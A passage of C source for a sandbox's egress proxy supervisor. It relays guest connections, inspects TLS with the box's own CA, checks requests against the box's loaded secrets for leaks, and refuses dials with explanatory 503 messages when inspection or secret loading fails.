		r = r < 0 ? r : text_copy(s->placeholder, sizeof(s->placeholder), in->placeholder);
		r = r < 0 ? r : text_copy(s->header, sizeof(s->header), in->header);
		r = r < 0 ? r : in->n_hosts > EGRESS_SECRET_HOSTS_MAX ? -EBADMSG : 0;
		for (size_t h = 0; r >= 0 && h < in->n_hosts; h++) {
			r = text_copy(s->hosts[h], sizeof(s->hosts[h]), in->hosts[h]);
		}
		if (r < 0) {
			break;
		}
		s->n_hosts = in->n_hosts;
		s->value = secmem_alloc(len);
		if (!s->value) {
			r = -ENOMEM;
			break;
		}
		s->value_len = len;
		r = io_pread_all(fd, s->value, len, (off_t)off);
		off += len;
	}
	if (r >= 0 && e->n_secrets > 0) {
		r = egress_leak_set_new(e->secrets, e->n_secrets, &e->leak);
	}
	if (r < 0) {
		secrets_clear(e);
	}
	return r;
}

/* ---------------------------------------------------------------- inspected dials */

/* A dial the proxy cannot carry out as decided: the box gets the answer, the daemon egress_done with the rule. */
static void es_dial_refuse(struct egress_sup *e, struct es *x, int64_t status, const char *rule, const char *message)
{
	struct buf b;

	if (buf_init(&b, 8192, 0) >= 0) {
		if (egress_sup_response(status, rule, message, &b) >= 0) {
			send_text(e, x, buf_ptr(&b), buf_len(&b));
		}
		buf_release(&b);
	}
	es_finish(e, x, EGRESS_CLOSE_REFUSED, rule, message);
}

/* An inspected CONNECT (TLS both ways) or a box with secrets' absolute-form request (plaintext). */
static void es_inspect(struct egress_sup *e, struct es *x, bool model)
{
	bool tunnel = x->head.kind == EGRESS_REQ_CONNECT;
	struct egress_insp_config cfg = { .host = x->head.host.name,
					  .port = x->head.port,
					  .tunnel = tunnel,
					  .model = model,
					  .secrets = e->n_secrets ? e->secrets : NULL,
					  .n_secrets = e->n_secrets,
					  .leak = e->n_secrets ? e->leak : NULL };
	SSL_CTX *ctx = NULL;
	int r = tunnel ? egress_ca_server_ctx(e->ca, x->head.host.name, &ctx) : 0;

	r = r < 0 ? r : t_new(x, tunnel, &x->t);
	r = r < 0 || !tunnel ? r : egress_tls_server_new(ctx, &x->t->box);
	r = r < 0 || !tunnel ? r : egress_tls_client_new(e->client, x->head.host.name, &x->t->org);
	r = r < 0 ? r : egress_insp_new(&cfg, &x->t->insp);
	if (r < 0) {
		char msg[SUPMSG_MAX_TEXT];
		(void)snprintf(msg, sizeof(msg),
			       "tkbox egress: the proxy could not set up the inspection of %s:%u: %s; retry, and see "
			       "`tkbox logs` on the host if it keeps failing",
			       x->head.host.name, x->head.port, tk_strerror(r));
		es_dial_refuse(e, x, 503, "inspect-failed", msg);
		return;
	}
	x->state = ES_INSPECT;
	if (tunnel) {
		(void)buf_consume(&x->in, x->head.head_len);
		x->owed += (uint32_t)x->head.head_len;
		send_text(e, x, ES_ESTABLISHED, strlen(ES_ESTABLISHED));
	}
	t_pump(e, x);
}

/*
 * The origin is read in every dialled state, so its EOF is seen in each: in
 * ES_HELLO without plain what it sends is held (down_open is false) and
 * judged as the server's first bytes once the ClientHello went.
 */
static bool es_wants_read(const struct es *x)
{
	if (x->t) {
		return t_wants_read(x);
	}
	return x->fd >= 0 && !x->origin_eof && buf_len(&x->down) < ES_DOWN_MAX &&
	       (x->state == ES_RELAY || x->state == ES_SERVER || x->state == ES_HELLO);
}

static bool es_wants_write(const struct es *x)
{
	if (x->t) {
		return t_wants_write(x);
	}
	return x->fd >= 0 &&
	       (buf_len(&x->hdr) > 0 ||
		(x->state == ES_RELAY && !x->framed ? buf_len(&x->in) : MIN(x->fwd, buf_len(&x->in))) > 0);
}

/* Move a dialled stream on: bytes, credit, the server's first bytes, FIN and the end. */
static void es_pump(struct egress_sup *e, struct es *x)
{
	int r;

	if (x->t) {
		t_pump(e, x);
		return;
	}
	r = es_push_up(x);
	if (r < 0) {
		char msg[SUPMSG_MAX_TEXT];
		(void)snprintf(msg, sizeof(msg), "the connection to %s:%u failed: %s", x->head.host.name, x->head.port,
			       tk_strerror(r));
		es_finish(e, x, EGRESS_CLOSE_RESET, NULL, msg);
		return;
	}
	if (x->state == ES_SERVER && x->fwd == 0) {
		es_server(e, x);
		if (x->state == ES_FREE) {
			return;
		}
	}
	if (x->state == ES_RELAY && x->ch) {
		free(x->ch); /* the ClientHellos are checked: its 72 KiB go back */
		x->ch = NULL;
	}
	es_push_down(e, x);
	if (x->stream && !x->guest_fin && x->state != ES_ASKED &&
	    (x->owed >= ES_GRANT_MIN || (x->owed > 0 && buf_len(&x->in) == 0))) {
		struct egress_frame f = { .type = EGRESS_WINDOW, .id = x->id, .credit = x->owed };
		if (emit(e, &f) >= 0) {
			x->owed = 0;
		}
	}
	if (x->state == ES_HELLO && !x->plain && !x->retry && x->origin_eof) {
		/* A TLS tunnel whose server closed before the box's ClientHello went: nothing of it is forwarded. */
		char msg[SUPMSG_MAX_TEXT];
		(void)snprintf(msg, sizeof(msg),
			       "the server %s:%u closed the connection before the box's TLS ClientHello",
			       x->head.host.name, x->head.port);
		es_finish(e, x, EGRESS_CLOSE_DONE, NULL, msg);
		return;
	}
	/* The origin's EOF is FIN after its bytes, in every state where they flow (a server-first plain tunnel too). */
	if (down_open(x) && x->origin_eof && buf_len(&x->down) == 0 && !x->fin_sent && x->stream) {
		struct egress_frame f = { .type = EGRESS_FIN, .id = x->id };
		if (emit(e, &f) >= 0) {
			x->fin_sent = true;
		}
	}
	if (x->state == ES_RELAY && x->fin_sent && x->shut_wr) {
		es_finish(e, x, EGRESS_CLOSE_DONE, NULL, NULL);
	}
}

static struct es *by_id(struct egress_sup *e, uint32_t id)
{
	for (size_t i = 0; i < ARRAY_SIZE(e->s); i++) {
		if (e->s[i].state != ES_FREE && e->s[i].stream && e->s[i].id == id) {
			return &e->s[i];
		}
	}
	return NULL;
}

static struct es *by_conn(struct egress_sup *e, int64_t conn)
{
	for (size_t i = 0; i < ARRAY_SIZE(e->s); i++) {
		if (e->s[i].state != ES_FREE && e->s[i].conn == conn) {
			return &e->s[i];
		}
	}
	return NULL;
}

static int on_open(struct egress_sup *e, uint32_t id)
{
	static const char full[] = "the box has 256 connections open or waiting for the door (EGRESS_SUP_SLOTS); "
				   "close one and retry";
	static const char stream_limit[] = "the box has 256 connections open (EGRESS_MAX_STREAMS); its forwarder "
					   "refuses more until one closes";
	struct egress_frame f = { .type = EGRESS_OPEN_REFUSED, .id = id };
	struct es *x = NULL;
	int r;

	for (size_t i = 0; i < ARRAY_SIZE(e->s) && !x && !e->stopping; i++) {
		x = e->s[i].state == ES_FREE ? &e->s[i] : NULL;
	}
	if (!x) {
		f.data = (const uint8_t *)(e->stopping ? EGRESS_SUP_STOPPING : full);
		f.len = strlen((const char *)f.data);
		if (!e->stopping) {
			tell_refused(e, "conn-cap", full, NULL);
		}
		return emit(e, &f);
	}
	*x = (struct es){ .state = ES_HEAD, .stream = true, .id = id, .fd = -1 };
	if (buf_init(&x->in, EGRESS_INITIAL_WINDOW, 0) < 0 || buf_init(&x->hdr, EGRESS_HEAD_MAX + 64, 0) < 0 ||
	    buf_init(&x->down, ES_DOWN_MAX, 0) < 0) {
		es_free(x);
		return -ENOMEM;
	}
	f.type = EGRESS_OPEN_OK;
	r = emit(e, &f);
	/*
	 * The guest's forwarder refuses the next connection itself (a 503 the host never sees): record that the
	 * box reached its cap, once each time an OPEN brings the count to it (only an OPEN raises it).
	 */
	if (r >= 0 && e->mux.n >= EGRESS_MAX_STREAMS) {
		tell_refused(e, "stream-limit", stream_limit, NULL);
	}
	return r;
}

static int on_data(struct egress_sup *e, struct es *x, const struct egress_frame *f)
{
	if (x->framed && x->body_done) {
		return 0; /* after the request's body: never forwarded (the origin was told Connection: close) */
	}
	if (buf_put(&x->in, f->data, f->len) < 0) {
		return violation(e, "DATA past the credit the host granted");
	}
	if (x->state == ES_HEAD &&
	    (memchr(f->data, '\n', f->len) || memchr(f->data, '\r', f->len) || buf_len(&x->in) >= EGRESS_HEAD_MAX)) {
		es_head(e, x);
	} else if (x->state == ES_HELLO) {
		es_hello(e, x);
	} else if (x->framed) {
		es_body(e, x);
	}
	return 0;
}

/* The guest closed the stream: answer CLOSE; a conn the daemon still decides on stays until it answers. */
static void on_close(struct egress_sup *e, struct es *x, uint8_t reason)
{
	send_close(e, x, EGRESS_CLOSE_DONE);
	if (x->state == ES_ASKED) {
		return;
	}
	if (x->dialled) {
		es_finish(e, x, EGRESS_CLOSE_DONE, NULL,
			  reason == EGRESS_CLOSE_DONE ? NULL : "the box reset the connection");
		return;
	}
	es_free(x);
}

static int guest_frame(struct egress_sup *e, uint8_t type, const struct buf *p)
{
	struct egress_frame f;
	const char *why = NULL;
	struct es *x;
	int r = egress_mux_receive(&e->mux, EGRESS_FROM_GUEST, type, buf_ptr(p), buf_len(p), &f, &why);

	if (r < 0) {
		return violation(e, why ? why : "a malformed frame");
	}
	if (f.type == EGRESS_OPEN) {
		return on_open(e, f.id);
	}
	x = by_id(e, f.id);
	if (!x) {
		return 0; /* it crossed our CLOSE: dropped */
	}
	switch (f.type) {
	case EGRESS_DATA:
		return on_data(e, x, &f);
	case EGRESS_FIN:
		x->guest_fin = true;
		if (x->state == ES_HEAD) {
			es_head(e, x);
		} else if (x->state == ES_HELLO) {
			es_hello(e, x);
		}
		return 0;
	case EGRESS_CLOSE:
		on_close(e, x, f.reason);
		return 0;
	case EGRESS_WINDOW:
	default:
		return 0; /* credit: the tracker holds it, the pump uses it */
	}
}

/* Read and handle guest frames, at most EGRESS_SUP_FRAMES_PER_TURN. */
static int port_read(struct egress_sup *e)
{
	unsigned frames = 0;

	for (;;) {
		while (buf_len(&e->rx) > 0 && frames < EGRESS_SUP_FRAMES_PER_TURN) {
			size_t used = 0;
			uint8_t type;
			int r = frame_decoder_feed(&e->dec, buf_ptr(&e->rx), buf_len(&e->rx), &used);
			(void)buf_consume(&e->rx, used);
			if (r < 0) {
				return violation(e, "a frame larger than EGRESS_MAX_FRAME");
			}
			if (r == 1) {
				buf_reset(&e->payload);
				r = frame_decoder_take(&e->dec, &type, &e->payload);
				r = r < 0 ? r : guest_frame(e, type, &e->payload);
				if (r < 0) {
					return r;
				}
				frames++;
			}
		}
		if (frames >= EGRESS_SUP_FRAMES_PER_TURN || buf_len(&e->out) >= 2 * EGRESS_SUP_OUT_DATA_MAX) {
			return 0;
		}
		ssize_t n = read(e->port, e->scratch, sizeof(e->scratch));
		if (n < 0) {
			return errno == EAGAIN || errno == EINTR ? 0 : negative_errno();
		}
		if (n == 0) {
			return -ECONNRESET;
		}
		if (buf_put(&e->rx, e->scratch, (size_t)n) < 0) {
			return -ENOMEM;
		}
	}
}

static int port_flush(struct egress_sup *e)
{
	while (buf_len(&e->out) > 0) {
		ssize_t n = write(e->port, buf_ptr(&e->out), buf_len(&e->out));
		if (n < 0) {
			return errno == EAGAIN || errno == EINTR ? 0 : errno == EPIPE ? -ECONNRESET : negative_errno();
		}
		(void)buf_consume(&e->out, (size_t)n);
	}
	return 0;
}

/*
 * Whether the proxy reads this dial (issue 13): an inspected CONNECT, or an
 * absolute-form request of a box with secrets. Fail-closed: an inspected dial
 * before the secrets arrived, or any read one after they failed to load, is
 * refused. True when the conn was taken (inspected or refused).
 */
static bool es_dial_inspect(struct egress_sup *e, struct es *x, const struct supmsg *m)
{
	char msg[SUPMSG_MAX_TEXT];
	bool absolute = x->head.kind == EGRESS_REQ_ABSOLUTE;

	if (!m->inspect && !(absolute && e->secrets_state != SECRETS_NONE)) {
		return false;
	}
	if (e->secrets_state == SECRETS_FAILED) {
		(void)snprintf(msg, sizeof(msg),
			       "tkbox egress: the request to %s:%u was refused: the box's secrets could not be loaded "
			       "into the proxy, so it cannot check what it would have to read (rule secrets-failed); "
			       "stop the box and see `tkbox logs` on the host",
			       x->head.host.name, x->head.port);
		es_dial_refuse(e, x, 503, "secrets-failed", msg);
		return true;
	}
	if (absolute && e->n_secrets == 0 && !m->inspect) {
		return false; /* a box without secrets: the issue-12 relay */
	}
	if (m->inspect && (!e->ca || !e->client)) {
		(void)snprintf(msg, sizeof(msg),
			       "tkbox egress: the daemon decided to read %s:%u, but the box has no CA in its proxy "
			       "(rule no-ca); this is a bug: see `tkbox logs` on the host",
			       x->head.host.name, x->head.port);
		es_dial_refuse(e, x, 503, "no-ca", msg);
		return true;
	}
	if (m->inspect && e->secrets_state != SECRETS_LOADED) {
		(void)snprintf(msg, sizeof(msg),
			       "tkbox egress: the request to %s:%u was refused: the box's secrets are not loaded yet "
			       "(rule secrets-not-loaded), so the proxy cannot read it as decided; retry in a moment",
			       x->head.host.name, x->head.port);
		es_dial_refuse(e, x, 503, "secrets-not-loaded", msg);
		return true;
	}
	es_inspect(e, x, m->model_host);
	return true;
}

static void es_dial(struct egress_sup *e, struct es *x, const struct supmsg *m, int fd)
{
	int fl = fcntl(fd, F_GETFL);

	x->fd = fd;
	x->dialled = true;
	x->plain = m->plain;
	x->t0_ms = clock_mono_ms();
	if (!x->stream) {
		es_finish(e, x, EGRESS_CLOSE_DONE, NULL, "the box closed the connection before it was dialled");
		return;
	}
	if (fl < 0 || fcntl(fd, F_SETFL, fl | O_NONBLOCK) < 0) {
		es_finish(e, x, EGRESS_CLOSE_RESET, NULL, "the dialled socket could not be made non-blocking");
		return;
	}
	if (es_dial_inspect(e, x, m)) {
		return;
	}
	if (x->head.kind == EGRESS_REQ_ABSOLUTE) {
		if (es_rewrite(x) < 0) {
			es_finish(e, x, EGRESS_CLOSE_RESET, NULL, "the request head could not be rewritten");
			return;
		}
		x->state = ES_RELAY;
		x->framed = true;
		x->fwd = x->fed = 0;
		egress_body_init(&x->body, &x->head);
		es_body(e, x);
		return;
	}
	(void)buf_consume(&x->in, x->head.head_len);
	x->owed += (uint32_t)x->head.head_len;
	x->ch = malloc(sizeof(*x->ch));
	if (!x->ch) {
		es_finish(e, x, EGRESS_CLOSE_RESET, NULL, "out of memory");
		return;
	}
	egress_ch_init(x->ch);
	send_text(e, x, ES_ESTABLISHED, strlen(ES_ESTABLISHED));
	x->state = ES_HELLO;
	es_hello(e, x);
}

int egress_sup_message(struct egress_sup *e, const struct supmsg *m, int *fd)
{
	struct es *x = by_conn(e, m->conn);

	if (m->op == SUPMSG_SECRETS) {
		int r = e->secrets_state == SECRETS_NONE ? secrets_load(e, m, *fd) : -EINVAL;
		(void)close(*fd);
		*fd = -1;
		if (e->secrets_state == SECRETS_NONE) {
			e->secrets_state = r < 0 ? SECRETS_FAILED : SECRETS_LOADED;
		}
		if (r < 0) {
			log_warn("egress: the box's secrets did not load (%s): every request the proxy would read is "
				 "refused",
				 tk_strerror(r));
		}
		return r;
	}
	if (m->op == SUPMSG_SECRET_OK) {
		/* A conn cut meanwhile (a stop) ends now: its swap was dropped, never forwarded. */
		if (x && x->state == ES_ENDING) {
			es_ended(e, x);
		} else if (x && x->state == ES_INSPECT && x->t && x->t->insp) {
			t_secret_ok(e, x, m->ok);
			t_pump(e, x);
			(void)port_flush(e);
		}
		return 0;
	}

	if ((m->op != SUPMSG_EGRESS_DIAL && m->op != SUPMSG_EGRESS_REFUSE) || !x || x->state != ES_ASKED) {
		return -EINVAL; /* the monitor let it through, so this conn is asked: never here */
	}
	if (m->op == SUPMSG_EGRESS_REFUSE) {
		if (x->stream) {
			es_respond(e, x, m->status, m->rule, m->message);
		}
		es_free(x);
	} else {
		int sock = *fd;
		*fd = -1;
		es_dial(e, x, m, sock);
		if (x->state != ES_FREE) {
			es_pump(e, x);
		}
	}
	(void)port_flush(e);
	return 0;
}

void egress_sup_tls(struct egress_sup *e, struct egress_ca *ca, SSL_CTX *client)
{
	egress_ca_free(e->ca);
	SSL_CTX_free(e->client);
	e->ca = ca;
	e->client = client;
}

void egress_sup_stop(struct egress_sup *e)
{
	refused_summary(e);
	e->stopping = true;
	for (size_t i = 0; i < ARRAY_SIZE(e->s); i++) {
		struct es *x = &e->s[i];
		if (x->state == ES_FREE || x->state == ES_ENDING) {
			continue;
		}
		send_close(e, x, EGRESS_CLOSE_STOPPING);
		if (x->dialled) {
			es_finish(e, x, EGRESS_CLOSE_STOPPING, NULL, "the box is stopping");
		} else if (x->state != ES_ASKED) {
			es_free(x);
		}
	}
	(void)port_flush(e);
}

void egress_sup_drain(struct egress_sup *e)
{
	if (!e->why[0] && port_read(e) < 0) {
		buf_reset(&e->rx);
	}
	(void)port_flush(e);
}

size_t egress_sup_fill(struct egress_sup *e, struct pollfd *p, size_t max)
{
	size_t n = 0;

	if (max == 0) {
		return 0;
	}
	p[n++] = (struct pollfd){ .fd = e->port,
				  .events = (short)((buf_len(&e->out) < 2 * EGRESS_SUP_OUT_DATA_MAX ? POLLIN : 0) |
						    (buf_len(&e->out) > 0 ? POLLOUT : 0)) };
	for (size_t i = 0; i < ARRAY_SIZE(e->s) && n < max; i++) {
		struct es *x = &e->s[i];
		short ev = (short)((es_wants_read(x) ? POLLIN : 0) | (es_wants_write(x) ? POLLOUT : 0));
		if (x->state != ES_FREE && ev) {
			e->map[n - 1] = x;
			p[n++] = (struct pollfd){ .fd = x->fd, .events = ev };
		}
	}
	return n;
}

int egress_sup_handle(struct egress_sup *e, const struct pollfd *p, size_t n)
{
	int r = 0;

	refused_tick(e, clock_mono_ms());
	for (size_t i = 1; i < n; i++) {
		struct es *x = e->map[i - 1];
		if (x->state == ES_FREE || x->fd != p[i].fd || !p[i].revents) {
			continue;
		}
		/* A few reads per turn, each sent on at once while the box's grant lasts: fewer polls per MiB. */
		r = p[i].revents & (POLLIN | POLLHUP | POLLERR) ? 1 : 0;
		for (int k = 0; k < ES_READS_PER_TURN && r > 0 && es_wants_read(x); k++) {
			if (x->t) {
				r = t_pull(e, x);
				if (r >= 0) {
					t_pump(e, x); /* may end the conn: es_wants_read is false then */
				}
				continue;
			}
			r = es_pull_down(e, x);
			es_push_down(e, x);
		}
		if (r < 0) {
			char msg[SUPMSG_MAX_TEXT];
			(void)snprintf(msg, sizeof(msg), "the connection to %s:%u failed: %s", x->head.host.name,
				       x->head.port, tk_strerror(r));
			es_finish(e, x, EGRESS_CLOSE_RESET, NULL, msg);
		}
	}
	/* Frames left from a full turn are read without waiting for poll. */
	r = (n > 0 && (p[0].revents & (POLLIN | POLLHUP | POLLERR))) || buf_len(&e->rx) > 0 ? port_read(e) : 0;
	for (size_t i = 0; r >= 0 && i < ARRAY_SIZE(e->s); i++) {
		if ((e->s[i].fd >= 0 || e->s[i].t) && e->s[i].state != ES_FREE && e->s[i].state != ES_ENDING) {
			es_pump(e, &e->s[i]);
		}
	}
	if (r >= 0 && e->why[0]) {
		r = -EPROTO;
	}
	if (r >= 0) {
		r = port_flush(e);
	}
	return r;
}

int egress_sup_timeout(const struct egress_sup *e)
{
	uint64_t now = clock_mono_ms(), end = e->ref_win_ms + 1000;

	if (e->ref_dropped == 0) {
		return -1;
	}
	return now >= end ? 0 : (int)(end - now);
}

/*
 * Guest frames already read, or bytes for the guest that can go now: a slot
 * pumped while the queue towards the port was full, which port_flush then
 * drained. Its credit is unused, so no WINDOW comes to wake it.
 */
bool egress_sup_pending(const struct egress_sup *e)
{
	if (e->why[0]) {
		return false;
	}
	if (buf_len(&e->rx) > 0) {
		return true;
	}
	for (size_t i = 0; i < ARRAY_SIZE(e->s) && buf_len(&e->out) < EGRESS_SUP_OUT_DATA_MAX; i++) {
		const struct es *x = &e->s[i];
		if ((x->fd >= 0 || x->t) && x->state != ES_FREE && x->state != ES_ENDING && down_open(x) &&
		    !x->fin_sent && buf_len(&x->down) > 0 && host_credit(e, x) > 0) {
			return true;
		}
	}
	return false;
}

const char *egress_sup_violation(const struct egress_sup *e)
{
	return e->why[0] ? e->why : NULL;
}

int egress_sup_new(int port, const struct egress_sup_host *host, struct egress_sup **ret)
{
	struct egress_sup *e = calloc(1, sizeof(*e));
	int fl = fcntl(port, F_GETFL), r;

	if (!e) {
		return -ENOMEM;
	}
	e->port = port;
	e->host = *host;
	egress_mux_init(&e->mux, EGRESS_FROM_HOST);
	for (size_t i = 0; i < ARRAY_SIZE(e->s); i++) {
		e->s[i].fd = -1;
	}
	r = fl < 0 || fcntl(port, F_SETFL, fl | O_NONBLOCK) < 0 ? negative_errno() : 0;
	r = r < 0 ? r : frame_decoder_init(&e->dec, EGRESS_MAX_FRAME);
	r = r < 0 ? r : buf_init(&e->rx, EGRESS_MAX_DATA, 0);
	r = r < 0 ? r : buf_init(&e->payload, EGRESS_MAX_FRAME, 0);
	r = r < 0 ? r : buf_init(&e->out, EGRESS_SUP_OUT_MAX, 0);
	if (r < 0) {
		egress_sup_free(e);
		return r;
	}
	*ret = e;
	return 0;
}

void egress_sup_free(struct egress_sup *e)
{
	if (!e) {
		return;
	}
	for (size_t i = 0; i < ARRAY_SIZE(e->s); i++) {
		es_free(&e->s[i]);
	}
	frame_decoder_release(&e->dec);
	buf_release(&e->rx);
	buf_release(&e->payload);
	buf_release(&e->out);
	secrets_clear(e);
	egress_ca_free(e->ca);
	SSL_CTX_free(e->client);
	free(e);
}
